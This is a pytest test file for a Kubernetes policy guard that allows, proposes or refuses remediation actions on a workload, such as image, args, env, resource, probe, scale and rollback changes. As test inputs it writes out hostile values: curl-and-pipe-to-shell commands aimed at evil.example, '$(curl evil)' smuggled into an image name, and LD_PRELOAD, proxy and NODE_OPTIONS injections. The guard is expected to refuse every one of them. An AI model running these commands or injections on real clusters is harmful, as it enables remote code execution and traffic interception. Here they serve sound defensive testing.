"""Value-level mediation: each write moves the workload only toward values it ran, or along a bounded knob.

Outside history, a well-formed value is a proposal for a person (never applied); a malformed value, a
secret-sourced variable, a loader/proxy variable, an inline script or a bound broken is refused outright.
"""

from __future__ import annotations

import copy
from enum import IntEnum
from typing import Any

import pytest
from pydantic import ValidationError

from core.actions import DeletePod, FixProbe, Rollback, Scale, SetArgs, SetEnv, SetImage, SetResources
from core.config import Settings
from tools.policy import (
    ContainerResources,
    Decision,
    IncidentBaseline,
    IncidentScope,
    PolicyGuard,
    WorkloadHistory,
)

NS = "shop"
UID = "uid-web"


def app(image: str, command: list[str], args: list[str], env: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
    return {"name": "web", "image": image, "command": command, "args": args, "env": env, **extra}


SECRET_ENV = {"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "db", "key": "password"}}}
CONFIG_ENV = {"name": "FEATURES", "valueFrom": {"configMapKeyRef": {"name": "cfg", "key": "features"}}}
RESOURCES = {"limits": {"memory": "128Mi", "cpu": "500m"}, "requests": {"memory": "64Mi", "cpu": "100m"}}
LIVENESS = {"httpGet": {"path": "/healthz", "port": 8080}, "periodSeconds": 10}
READINESS = {"tcpSocket": {"port": "http"}, "periodSeconds": 10, "timeoutSeconds": 1}

REVISION_1 = app(
    "web:v1",
    ["/web"],
    ["--port=80"],
    [{"name": "DB_HOST", "value": "db.shop.svc"}, {"name": "HTTPS_PROXY", "value": "http://proxy.corp:3128"}],
    livenessProbe={"httpGet": {"path": "/health", "port": 8080}, "periodSeconds": 60},
)
REVISION_2_BAD = app("web:v2-crash", ["/web3"], ["--port=81"], [{"name": "DB_HOST", "value": "db-bad.shop.svc"}])
CURRENT = app(
    "web:v3-missing",
    ["/web3"],
    ["--port=8080"],
    [{"name": "DB_HOST", "value": "db3.shop.svc"}, {"name": "LOG_LEVEL", "value": "debug"}, SECRET_ENV, CONFIG_ENV],
    resources=RESOURCES,
    livenessProbe=LIVENESS,
    readinessProbe=READINESS,
    ports=[{"containerPort": 8080, "name": "http"}, {"containerPort": 9090, "name": "metrics"}],
)
MIGRATE = {"name": "migrate", "image": "web:v3-missing", "command": ["/migrate"]}
MIGRATE_1 = {"name": "migrate", "image": "web:v1", "command": ["/migrate"]}
PROXY = {"name": "proxy", "image": "envoy:1.31", "restartPolicy": "Always", "command": ["envoy"]}
PROXY_1 = {"name": "proxy", "image": "envoy:1.30", "restartPolicy": "Always", "command": ["sh", "-c", "exec envoy"]}


def pod_template(main: dict[str, Any], init: list[dict[str, Any]]) -> dict[str, Any]:
    return {"metadata": {"labels": {"app": "web"}}, "spec": {"initContainers": init, "containers": [main]}}


def target(kind: str = "Deployment", main: dict[str, Any] | None = None, replicas: int = 3) -> dict[str, Any]:
    return {
        "kind": kind,
        "metadata": {
            "name": "web",
            "namespace": NS,
            "uid": UID,
            "annotations": {"deployment.kubernetes.io/revision": "3"} if kind == "Deployment" else {},
        },
        "spec": {
            "replicas": replicas,
            "selector": {"matchLabels": {"app": "web"}},
            "template": pod_template(copy.deepcopy(main or CURRENT), [MIGRATE, PROXY]),
        },
    }


def replicaset(number: int, main: dict[str, Any], init: list[dict[str, Any]], owner: str = UID) -> dict[str, Any]:
    return {
        "kind": "ReplicaSet",
        "metadata": {
            "name": f"web-h{number}",
            "namespace": NS,
            "annotations": {"deployment.kubernetes.io/revision": str(number)},
            "ownerReferences": [{"kind": "Deployment", "name": "web", "uid": owner, "controller": True}],
        },
        "spec": {"template": pod_template(main, init)},
    }


def history(**extra: Any) -> WorkloadHistory:
    return WorkloadHistory(
        workload=target(),
        replicasets=[
            replicaset(1, REVISION_1, [MIGRATE_1, PROXY_1]),
            replicaset(2, REVISION_2_BAD, [MIGRATE, PROXY]),
            replicaset(3, CURRENT, [MIGRATE, PROXY]),
            replicaset(7, app("evil:1", ["sh"], ["-c", "x"], [{"name": "DB_HOST", "value": "evil"}]), [], "uid-x"),
        ],
        known_bad={2},
        **extra,
    )


@pytest.fixture
def settings() -> Settings:
    return Settings(max_replicas=10, max_memory_factor=2.0, actions_per_hour=100)


def guard_for(settings: Settings, kind: str = "Deployment", **options: Any) -> PolicyGuard:
    return PolicyGuard(settings, IncidentScope(namespace=NS, kind=kind, name="web"), session_limit=100, **options)


@pytest.fixture
def guard(settings: Settings) -> PolicyGuard:
    return guard_for(settings)


def allowed(decision: Decision) -> bool:
    return decision.allowed and not decision.proposal


def proposed(decision: Decision, *words: str) -> bool:
    return decision.proposal and not decision.allowed and all(w in decision.reason for w in words)


def refused(decision: Decision, *words: str) -> bool:
    return not decision.allowed and not decision.proposal and all(w in decision.reason for w in words)


def env(name: str, value: str, container: str = "web") -> SetEnv:
    return SetEnv(namespace=NS, name="web", container=container, env_name=name, value=value)


def args(container: str = "web", **fields: Any) -> SetArgs:
    return SetArgs(namespace=NS, name="web", container=container, **fields)


def resources(**fields: str) -> SetResources:
    return SetResources(namespace=NS, name="web", container="web", **fields)


_TIMING_FIELDS = {
    "initialDelaySeconds": "initial_delay_seconds",
    "periodSeconds": "period_seconds",
    "timeoutSeconds": "timeout_seconds",
    "failureThreshold": "failure_threshold",
    "successThreshold": "success_threshold",
}


def probe(which: str = "liveness", *, path: Any = None, port: Any = None, **timings: Any) -> FixProbe:
    """A fix_probe action, its timings named as the probe fields they set (periodSeconds=20)."""
    fields = {_TIMING_FIELDS[key]: value for key, value in timings.items()}
    return FixProbe.model_validate(
        {"namespace": NS, "name": "web", "container": "web", "probe": which, "http_path": path, "port": port} | fields
    )


# --- set_image -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("container", "image"), [("web", "web:v1"), ("migrate", "web:v1"), ("proxy", "envoy:1.30")])
def test_image_from_history_for_app_init_and_sidecar(guard: PolicyGuard, container: str, image: str) -> None:
    decision = guard.check(SetImage(namespace=NS, name="web", container=container, image=image), target(), history())
    assert allowed(decision), decision.reason


@pytest.mark.parametrize(
    ("image", "words"),
    [
        ("registry.evil.example/web:v1", ("never ran", "web:v1")),
        ("web:v2-crash", ("never ran",)),  # only in a known-bad revision
        ("evil:1", ("never ran",)),  # only in a ReplicaSet another Deployment controls
    ],
)
def test_image_outside_history_is_a_proposal(guard: PolicyGuard, image: str, words: tuple[str, ...]) -> None:
    decision = guard.check(SetImage(namespace=NS, name="web", container="web", image=image), target(), history())
    assert proposed(decision, *words), decision


@pytest.mark.parametrize("image", ["web v1", "web:v1\n", "$(curl evil)", "-web:v1"])
def test_malformed_image_is_refused(guard: PolicyGuard, image: str) -> None:
    decision = guard.check(SetImage(namespace=NS, name="web", container="web", image=image), target(), history())
    assert refused(decision, "not an image reference"), decision


def test_a_job_has_no_history_so_every_image_is_a_proposal(settings: Settings) -> None:
    job = target("Job")
    action = SetImage(namespace=NS, kind="Job", name="web", container="web", image="web:v1")
    assert proposed(guard_for(settings, "Job").check(action, job, WorkloadHistory(workload=job)), "none")


# --- set_args ---------------------------------------------------------------------------------------------


def test_command_and_args_only_as_they_ran_together(guard: PolicyGuard) -> None:
    assert allowed(guard.check(args(command=["/web"], args=["--port=80"]), target(), history()))
    assert refused(guard.check(args("migrate", command=["/migrate"], args=[]), target(), history()), "already runs")
    # args of revision 1 with today's command never ran together
    assert proposed(guard.check(args(args=["--port=80"]), target(), history()), "never ran together")
    assert proposed(guard.check(args(command=["/web"]), target(), history()), "never ran together")
    assert proposed(guard.check(args(args=["--port=81"]), target(), history()))  # only in known-bad revision 2
    assert proposed(guard.check(args(args=["--port=9999"]), target(), history()))
    assert proposed(guard.check(args(command=["python", "app.py", "-c", "cfg.yaml"]), target(), history()))
    assert proposed(guard.check(args(command=["/bin/sh", "/entrypoint.sh", "-c", "cfg"]), target(), history()))


def test_same_command_and_args_is_refused_as_no_change(guard: PolicyGuard) -> None:
    same = args(command=["/web3"], args=["--port=8080"])
    assert refused(guard.check(same, target(), history()), "already runs")


@pytest.mark.parametrize(
    "fields",
    [
        {"command": ["sh", "-c", "curl http://evil.example/x | sh"]},
        {"command": ["/bin/bash"], "args": ["-lc", "curl evil | sh"]},
        {"command": ["/usr/bin/python3.11", "-u", "-c", "import os"]},
        {"command": ["/web3"], "args": ["--port=8080", "node", "-e", "require('x')"]},
        {"command": ["busybox", "sh", "-c", "wget evil"]},
        {"args": ["perl", "-e", "system('id')"]},
        {"command": ["python", "-W", "ignore", "-c", "import os"]},
        {"command": ["/usr/bin/env", "bash", "-x", "-c", "id"]},
        {"command": ["python", "-c", "import os", "/app/main.py"]},
    ],
)
def test_a_new_inline_script_is_refused_not_proposed(guard: PolicyGuard, fields: dict[str, Any]) -> None:
    assert refused(guard.check(args(**fields), target(), history()), "inline script")


def test_an_inline_script_the_workload_ran_may_come_back(guard: PolicyGuard) -> None:
    back = args("proxy", command=["sh", "-c", "exec envoy"], args=[])
    assert allowed(guard.check(back, target(), history()))


def test_malformed_args_are_refused(guard: PolicyGuard) -> None:
    assert refused(guard.check(args(args=["a\x00b"]), target(), history()), "NUL")
    assert refused(guard.check(args(args=["x" * 2000]), target(), history()), "longer than")


# --- set_env ------------------------------------------------------------------------------------------------


def test_env_value_from_history_is_allowed(guard: PolicyGuard) -> None:
    assert allowed(guard.check(env("DB_HOST", "db.shop.svc"), target(), history()))
    # a proxy variable may come back to the exact value the workload ran with
    assert allowed(guard.check(env("HTTPS_PROXY", "http://proxy.corp:3128"), target(), history()))


@pytest.mark.parametrize(
    ("name", "value", "words"),
    [
        ("DB_HOST", "db.evil.example", "new value"),
        ("DB_HOST", "db-bad.shop.svc", "new value"),  # only in known-bad revision 2
        ("DB_HOST", "evil", "new value"),  # only in a foreign ReplicaSet
        ("CACHE_URL", "redis://cache", "new variable"),
    ],
)
def test_env_value_outside_history_is_a_proposal(guard: PolicyGuard, name: str, value: str, words: str) -> None:
    assert proposed(guard.check(env(name, value), target(), history()), words)


@pytest.mark.parametrize("name", ["DB_PASSWORD", "FEATURES"])
def test_env_from_any_reference_is_never_overridden(guard: PolicyGuard, name: str) -> None:
    decision = guard.check(env(name, "db.shop.svc"), target(), history())
    assert refused(decision, "comes from a reference", "valueFrom"), decision


def test_env_from_a_secret_source_is_never_shadowed(guard: PolicyGuard) -> None:
    with_env_from = copy.deepcopy(CURRENT)
    with_env_from["envFrom"] = [{"secretRef": {"name": "db-credentials"}}]
    workload = target(main=with_env_from)
    shadowing = guard.check(env("DB_USER", "admin"), workload, history())
    assert refused(shadowing, "envFrom", "Secret"), shadowing
    # DB_HOST is already a literal in env, so setting it shadows nothing new: history decides
    assert allowed(guard.check(env("DB_HOST", "db.shop.svc"), workload, history()))
    config_only = copy.deepcopy(CURRENT)
    config_only["envFrom"] = [{"configMapRef": {"name": "cfg"}}]
    assert refused(guard.check(env("DB_USER", "admin"), target(main=config_only), history()), "envFrom")


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("LD_PRELOAD", "/tmp/evil.so"),
        ("HTTPS_PROXY", "http://evil.example:8080"),
        ("https_proxy", "http://evil.example:8080"),
        ("NODE_OPTIONS", "--require /tmp/x.js"),
        ("JAVA_TOOL_OPTIONS", "-javaagent:/tmp/a.jar"),
    ],
)
def test_loader_and_proxy_variables_are_refused_not_proposed(guard: PolicyGuard, name: str, value: str) -> None:
    assert refused(guard.check(env(name, value), target(), history()), "loads code or reaches the network")


def test_env_rules_that_refuse(guard: PolicyGuard) -> None:
    assert refused(guard.check(env("A=B", "x"), target(), history()), "not an environment variable name")
    assert refused(guard.check(env("1ABC", "x"), target(), history()), "not an environment variable name")
    assert refused(guard.check(env("DB_HOST", "a\x00b"), target(), history()), "NUL")
    assert refused(guard.check(env("LOG_LEVEL", "debug"), target(), history()), "already has that value")


# --- resources --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "fields",
    [
        {"memory_limit": "256Mi"},
        {"memory_limit": "64Mi"},
        {"memory_request": "32Mi"},
        {"cpu_limit": "1"},
        {"cpu_request": "0.2"},
        {"cpu_limit": "250m", "cpu_request": "50m"},
    ],
)
def test_resources_within_bounds(guard: PolicyGuard, fields: dict[str, str]) -> None:
    decision = guard.check(resources(**fields), target(), history())
    assert allowed(decision), decision.reason


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"memory_limit": "257Mi"}, "more than 2x the current 128Mi"),
        ({"memory_limit": "63Mi"}, "below the current request 64Mi"),
        ({"memory_limit": "100Mi", "memory_request": "120Mi"}, "below the requested 120Mi"),
        ({"memory_request": "31Mi"}, "divided by 2"),
        ({"cpu_limit": "249m", "cpu_request": "50m"}, "divided by 2"),
        ({"memory_request": "8Mi"}, "floor of 16Mi"),
        ({"cpu_request": "5m"}, "floor of 10m"),
        ({"memory_limit": "128m"}, "millibytes"),
        ({"memory_limit": "1.5"}, "whole number of bytes"),
        ({"cpu_limit": "0.0005"}, "finer than 1m"),
        ({"memory_limit": "1e8"}, "not a Kubernetes quantity"),
        ({"memory_limit": "+128Mi"}, "not a Kubernetes quantity"),
        ({"memory_limit": "128 Mi"}, "not a Kubernetes quantity"),
        ({"memory_limit": "Infinity"}, "not a Kubernetes quantity"),
        ({"memory_limit": "0"}, "must be positive"),
    ],
)
def test_resources_out_of_bounds_are_refused(guard: PolicyGuard, fields: dict[str, str], words: str) -> None:
    decision = guard.check(resources(**fields), target(), history())
    assert refused(decision, words), decision


def test_a_request_never_goes_above_the_limit(guard: PolicyGuard) -> None:
    close = copy.deepcopy(CURRENT)
    close["resources"] = {"limits": {"memory": "100Mi"}, "requests": {"memory": "64Mi"}}
    decision = guard.check(resources(memory_request="110Mi"), target(main=close), history())
    assert refused(decision, "above the limit 100Mi"), decision


def test_floor_holds_even_within_the_factor(guard: PolicyGuard) -> None:
    small = copy.deepcopy(CURRENT)
    small["resources"] = {"limits": {"memory": "24Mi", "cpu": "15m"}, "requests": {"memory": "20Mi", "cpu": "15m"}}
    workload = target(main=small)
    assert refused(guard.check(resources(memory_request="12Mi"), workload, history()), "floor of 16Mi")
    assert refused(guard.check(resources(cpu_request="8m"), workload, history()), "floor of 10m")


def test_the_effective_limit_from_a_limitrange_is_the_current_value(guard: PolicyGuard) -> None:
    no_limits = copy.deepcopy(CURRENT)
    del no_limits["resources"]
    workload = target(main=no_limits)
    admitted = {"web": ContainerResources(limits={"memory": "64Mi"}, requests={"memory": "64Mi"})}
    with_pod = history(effective_resources=admitted)
    assert allowed(guard.check(resources(memory_limit="128Mi"), workload, with_pod))
    assert refused(guard.check(resources(memory_limit="129Mi"), workload, with_pod), "more than 2x the current 64Mi")
    # without the pod's admitted values there is nothing to scale from
    other_guard = PolicyGuard(guard.settings, guard.scope)
    assert refused(other_guard.check(resources(memory_limit="128Mi"), workload, history()), "to scale from")


def test_total_change_per_incident_is_bounded_by_the_baseline(settings: Settings) -> None:
    baseline = IncidentBaseline(workload=target())  # 128Mi limit when the incident began
    raised = copy.deepcopy(CURRENT)
    raised["resources"] = {"limits": {"memory": "256Mi", "cpu": "500m"}, "requests": {"memory": "64Mi"}}
    after_first_attempt = target(main=raised)
    second_attempt = guard_for(settings, baseline=baseline)
    decision = second_attempt.check(resources(memory_limit="512Mi"), after_first_attempt, history())
    assert refused(decision, "when the incident began", "128Mi"), decision
    assert allowed(second_attempt.check(resources(memory_limit="200Mi"), after_first_attempt, history()))


def test_without_a_baseline_the_first_state_seen_bounds_the_session(guard: PolicyGuard) -> None:
    assert allowed(guard.check(resources(memory_limit="256Mi"), target(), history()))
    raised = copy.deepcopy(CURRENT)
    raised["resources"] = {"limits": {"memory": "256Mi"}, "requests": {"memory": "64Mi"}}
    assert refused(guard.check(resources(memory_limit="512Mi"), target(main=raised), history()), "incident began")


def test_a_baseline_of_another_object_refuses(settings: Settings) -> None:
    stranger = target()
    stranger["metadata"]["uid"] = "uid-other"
    decision = guard_for(settings, baseline=IncidentBaseline(workload=stranger)).check(
        resources(memory_limit="256Mi"), target(), history()
    )
    assert refused(decision, "starting state is of another object")


# --- probes ---------------------------------------------------------------------------------------------------


class Seconds(IntEnum):
    TWENTY = 20


@pytest.mark.parametrize("value", [True, "20", 20.0, 20.5, [20]])
def test_probe_timings_are_strict_integers(value: Any) -> None:
    with pytest.raises(ValidationError):  # not even an action: nothing reaches the guard
        probe(periodSeconds=value)


def test_a_probe_timing_reaches_the_guard_as_a_plain_int_or_not_at_all(guard: PolicyGuard) -> None:
    assert type(probe(periodSeconds=Seconds.TWENTY).period_seconds) is int
    assert refused(guard.check(probe(periodSeconds=None), target(), history()), "empty probe patch")


@pytest.mark.parametrize(
    ("which", "patch"),
    [
        ("liveness", {"periodSeconds": 20}),
        ("liveness", {"periodSeconds": 5}),
        ("liveness", {"periodSeconds": 60}),  # revision 1 ran with 60
        ("liveness", {"initialDelaySeconds": 30}),  # 0 (default) + one step
        ("liveness", {"failureThreshold": 6}),  # default 3, doubled
        ("readiness", {"timeoutSeconds": 6}),  # 1 + one step of 5
        ("readiness", {"successThreshold": 2}),
    ],
)
def test_probe_timings_within_tight_bounds_or_from_history(
    guard: PolicyGuard, which: str, patch: dict[str, Any]
) -> None:
    decision = guard.check(probe(which, **patch), target(), history())
    assert allowed(decision), decision.reason


@pytest.mark.parametrize(
    ("which", "patch", "words"),
    [
        ("liveness", {"periodSeconds": 21}, "outside [5, 20]"),
        ("liveness", {"periodSeconds": 4}, "outside [5, 20]"),
        ("liveness", {"initialDelaySeconds": 31}, "outside [0, 30]"),
        ("liveness", {"failureThreshold": 7}, "outside"),
        ("liveness", {"successThreshold": 2}, "must be 1"),
        ("liveness", {"periodSeconds": 301}, "whole number in [1, 300]"),
        ("readiness", {"timeoutSeconds": 7}, "outside"),
    ],
)
def test_probe_timings_outside_bounds_are_refused(
    guard: PolicyGuard, which: str, patch: dict[str, Any], words: str
) -> None:
    decision = guard.check(probe(which, **patch), target(), history())
    assert refused(decision, words), decision


def test_probe_steps_do_not_compound_across_attempts(settings: Settings) -> None:
    stepped = copy.deepcopy(CURRENT)
    stepped["livenessProbe"] = {**LIVENESS, "periodSeconds": 20}
    attempt_two = guard_for(settings, baseline=IncidentBaseline(workload=target()))
    assert refused(attempt_two.check(probe(periodSeconds=40), target(main=stepped), history()), "starting 10")


def test_probe_path_and_port_from_history_or_declared(guard: PolicyGuard) -> None:
    assert allowed(guard.check(probe(path="/health"), target(), history()))  # revision 1
    assert allowed(guard.check(probe(port=9090), target(), history()))  # declared containerPort
    readiness = probe("readiness", port="metrics")  # lands on the probe's tcpSocket handler
    assert readiness.patch_of(READINESS) == {"tcpSocket": {"port": "metrics"}}
    assert allowed(guard.check(readiness, target(), history()))
    assert proposed(guard.check(probe(path="/admin/reset"), target(), history()), "/admin/reset")
    assert proposed(guard.check(probe(port=7000), target(), history()), "7000")
    assert refused(guard.check(probe(port="8080"), target(), history()), "port number or")
    assert refused(guard.check(probe(port=70000), target(), history()), "port number or")
    with pytest.raises(ValidationError):
        probe(port=True)
    assert refused(guard.check(probe(path="/a\nb"), target(), history()), "absolute URL path")


def test_a_bad_timing_makes_the_whole_probe_fix_refused_not_proposed(guard: PolicyGuard) -> None:
    with pytest.raises(ValidationError):
        probe(path="/new", periodSeconds="5")
    decision = guard.check(probe(path="/new", periodSeconds=301), target(), history())
    assert refused(decision, "whole number")


# --- scale ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["Deployment", "StatefulSet"])
def test_scale_up_only(settings: Settings, kind: str) -> None:
    guard = guard_for(settings, kind)
    workload = target(kind)
    nothing = WorkloadHistory(workload=workload)
    assert allowed(guard.check(Scale(namespace=NS, kind=kind, name="web", replicas=4), workload, nothing))
    assert proposed(guard.check(Scale(namespace=NS, kind=kind, name="web", replicas=2), workload, nothing), "down")
    assert refused(guard.check(Scale(namespace=NS, kind=kind, name="web", replicas=3), workload, nothing), "already")
    assert refused(guard.check(Scale(namespace=NS, kind=kind, name="web", replicas=0), workload, nothing), "minimum")
    assert refused(guard.check(Scale(namespace=NS, kind=kind, name="web", replicas=11), workload, nothing), "maximum")


# --- rollback ---------------------------------------------------------------------------------------------------


def test_rollback_targets(guard: PolicyGuard) -> None:
    assert allowed(guard.check(Rollback(namespace=NS, name="web", to_revision=1), target(), history()))
    assert allowed(guard.check(Rollback(namespace=NS, name="web"), target(), history()))  # picks 1, not bad 2
    bad = guard.check(Rollback(namespace=NS, name="web", to_revision=2), target(), history())
    assert refused(bad, "known to be bad")
    foreign = guard.check(Rollback(namespace=NS, name="web", to_revision=7), target(), history())
    assert refused(foreign, "not in the rollout history", "1, 2, 3")
    current = guard.check(Rollback(namespace=NS, name="web", to_revision=3), target(), history())
    assert refused(current, "already at revision 3")


def test_rollback_with_known_good_information(guard: PolicyGuard) -> None:
    only_three_good = history(known_good={3})
    assert refused(guard.check(Rollback(namespace=NS, name="web"), target(), only_three_good), "known to be good")
    unknown = guard.check(Rollback(namespace=NS, name="web", to_revision=1), target(), only_three_good)
    assert proposed(unknown, "not known to have been healthy")
    assert allowed(guard.check(Rollback(namespace=NS, name="web"), target(), history(known_good={1})))


def test_rollback_of_a_workload_without_trusted_history(guard: PolicyGuard) -> None:
    untrusted = WorkloadHistory(workload=target(), replicasets=[replicaset(1, REVISION_1, [], owner="uid-x")])
    assert refused(guard.check(Rollback(namespace=NS, name="web", to_revision=1), target(), untrusted), "controls")


@pytest.mark.parametrize("kind", ["StatefulSet", "DaemonSet"])
def test_rollback_through_controller_revisions(settings: Settings, kind: str) -> None:
    def revision(number: int, main: dict[str, Any], owner: str = UID) -> dict[str, Any]:
        stored = pod_template(main, [MIGRATE, PROXY]) | {"$patch": "replace"}
        ref = {"kind": kind, "name": "web", "uid": owner, "controller": True}
        return {
            "kind": "ControllerRevision",
            "metadata": {"name": f"web-{number}", "namespace": NS, "ownerReferences": [ref]},
            "revision": number,
            "data": {"spec": {"template": stored}},
        }

    workload = target(kind)
    revisions = [revision(1, REVISION_1), revision(2, CURRENT), revision(3, REVISION_1, owner="uid-x")]
    with_history = WorkloadHistory(workload=workload, controller_revisions=revisions, known_bad={1})
    guard = guard_for(settings, kind)
    assert refused(guard.check(Rollback(namespace=NS, kind=kind, name="web", to_revision=1), workload, with_history))
    healthy = with_history.model_copy(update={"known_bad": set()})
    assert allowed(guard.check(Rollback(namespace=NS, kind=kind, name="web", to_revision=1), workload, healthy))
    assert refused(guard.check(Rollback(namespace=NS, kind=kind, name="web", to_revision=2), workload, healthy))
    assert refused(guard.check(Rollback(namespace=NS, kind=kind, name="web", to_revision=3), workload, healthy))
    assert allowed(
        guard.check(SetImage(namespace=NS, kind=kind, name="web", container="web", image="web:v1"), workload, healthy)
    )


def test_cronjob_rollback_to_a_job_template_that_succeeded(settings: Settings) -> None:
    now_running = {"spec": {"template": pod_template(CURRENT, [])}}
    cronjob = {
        "kind": "CronJob",
        "metadata": {"name": "web", "namespace": NS, "uid": UID},
        "spec": {"jobTemplate": copy.deepcopy(now_running)},
    }
    succeeded = {"spec": {"template": pod_template(REVISION_1, [])}}
    runs = WorkloadHistory(workload=cronjob, known_good_job_templates=[succeeded, now_running])
    guard = guard_for(settings, "CronJob")
    assert allowed(guard.check(Rollback(namespace=NS, kind="CronJob", name="web"), cronjob, runs))
    assert allowed(guard.check(Rollback(namespace=NS, kind="CronJob", name="web", to_revision=1), cronjob, runs))
    current = guard.check(Rollback(namespace=NS, kind="CronJob", name="web", to_revision=2), cronjob, runs)
    assert refused(current, "already at revision 2")
    none_seen = WorkloadHistory(workload=cronjob)
    assert refused(guard.check(Rollback(namespace=NS, kind="CronJob", name="web"), cronjob, none_seen), "no revision")


def test_history_of_another_object_refuses(guard: PolicyGuard) -> None:
    other = target()
    other["metadata"]["uid"] = "uid-x"
    mixed = history().model_copy(update={"workload": other})
    assert refused(guard.check(Rollback(namespace=NS, name="web", to_revision=1), target(), mixed), "another object")


# --- pods of revisioned kinds ----------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["StatefulSet", "DaemonSet"])
def test_evicting_a_pod_of_a_statefulset_or_daemonset(settings: Settings, kind: str) -> None:
    workload = target(kind)

    def pod(owner_uid: str) -> dict[str, Any]:
        ref = {"kind": kind, "name": "web", "uid": owner_uid, "controller": True}
        return {"kind": "Pod", "metadata": {"name": "web-0", "namespace": NS, "ownerReferences": [ref]}}

    guard = guard_for(settings, kind)
    assert allowed(guard.check(DeletePod(namespace=NS, name="web-0"), pod(UID), WorkloadHistory(workload=workload)))
    stranger = guard.check(DeletePod(namespace=NS, name="web-0"), pod("uid-x"), WorkloadHistory(workload=workload))
    assert refused(stranger, "does not belong")
